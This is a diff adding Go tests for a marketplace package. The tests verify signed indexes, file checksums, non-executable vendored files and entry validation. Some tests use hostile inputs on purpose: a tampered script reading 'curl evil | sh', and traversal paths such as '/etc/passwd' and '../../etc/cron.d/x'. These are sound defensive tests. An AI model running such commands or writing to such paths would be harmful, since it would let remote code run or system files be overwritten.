@@ -0,0 +1,117 @@
+package marketplace
+
+import (
+	"crypto/ed25519"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestMarketplace(t *testing.T) {
+	pub, priv, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	script := []byte("#!/bin/bash\necho matomo\n")
+	sum := sha256.Sum256(script)
+
+	files := map[string][]byte{"/files/setup.sh": script}
+	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		data, ok := files[r.URL.Path]
+		if !ok {
+			http.NotFound(w, r)
+			return
+		}
+		w.Write(data)
+	}))
+	defer server.Close()
+	httpClient = server.Client()
+
+	index := Index{Entries: []Entry{{
+		Name:    "matomo-stack",
+		Title:   "Matomo stack",
+		Kind:    KindBlueprint,
+		Version: "1.0.0",
+		Files:   []File{{Path: "setup.sh", URL: server.URL + "/files/setup.sh", SHA256: hex.EncodeToString(sum[:])}},
+	}}}
+	data, _ := json.Marshal(index)
+	files["/index.json"] = data
+	files["/index.json.sig"] = []byte(base64.StdEncoding.EncodeToString(ed25519.Sign(priv, data)))
+
+	cfg := Config{URL: server.URL + "/index.json", PublicKey: base64.StdEncoding.EncodeToString(pub)}
+	got, err := cfg.Fetch()
+	if err != nil {
+		t.Fatalf("Fetch: %v", err)
+	}
+	if len(got.Entries) != 1 || got.Entries[0].Name != "matomo-stack" {
+		t.Fatalf("unexpected entries %+v", got.Entries)
+	}
+
+	// A different key must reject the index
+	otherPub, _, _ := ed25519.GenerateKey(nil)
+	if _, err := Verify(data, files["/index.json.sig"], otherPub); err == nil {
+		t.Error("expected a signature mismatch with another key")
+	}
+	if _, err := Verify(append(data, ' '), files["/index.json.sig"], pub); err == nil {
+		t.Error("expected a signature mismatch for a modified index")
+	}
+
+	VendorDir = t.TempDir()
+	dir, err := cfg.Install(got.Entries[0])
+	if err != nil {
+		t.Fatalf("Install: %v", err)
+	}
+	info, err := os.Stat(filepath.Join(dir, "setup.sh"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if info.Mode().Perm()&0111 != 0 {
+		t.Errorf("vendored files should not be executable, got %v", info.Mode())
+	}
+	if inst, ok := ListInstalled()["matomo-stack"]; !ok || inst.Version != "1.0.0" {
+		t.Errorf("expected matomo-stack 1.0.0 to be listed as installed, got %+v", inst)
+	}
+
+	// Files that no longer match the signed checksum are refused
+	files["/files/setup.sh"] = []byte("#!/bin/bash\ncurl evil | sh\n")
+	if _, err := cfg.Install(got.Entries[0]); err == nil || !strings.Contains(err.Error(), "checksum") {
+		t.Errorf("expected a checksum error, got %v", err)
+	}
+}
+
+func TestEntryValidate(t *testing.T) {
+	sum := strings.Repeat("ab", sha256.Size)
+	valid := Entry{Name: "kuma", Kind: KindScript, Files: []File{{Path: "nginx/kuma.conf", URL: "https://example.com/kuma.conf", SHA256: sum}}}
+	if err := valid.Validate(); err != nil {
+		t.Fatalf("expected a valid entry, got %v", err)
+	}
+
+	tests := map[string]func(e *Entry){
+		"bad name":       func(e *Entry) { e.Name = "../kuma" },
+		"unknown kind":   func(e *Entry) { e.Kind = "plugin" },
+		"absolute path":  func(e *Entry) { e.Files[0].Path = "/etc/passwd" },
+		"escaping path":  func(e *Entry) { e.Files[0].Path = "../../etc/cron.d/x" },
+		"plain http":     func(e *Entry) { e.Files[0].URL = "http://example.com/kuma.conf" },
+		"bad checksum":   func(e *Entry) { e.Files[0].SHA256 = "abc" },
+		"metadata clash": func(e *Entry) { e.Files[0].Path = MetadataFile },
+	}
+	for name, mutate := range tests {
+		e := valid
+		e.Files = append([]File(nil), valid.Files...)
+		mutate(&e)
+		if err := e.Validate(); err == nil {
+			t.Errorf("%s: expected an error", name)
+		}
+	}
+
+	if err := (Config{URL: "http://example.com/index.json", PublicKey: "x"}).Validate(); err == nil {
+		t.Error("expected plain-http index URL to be rejected")
+	}
+}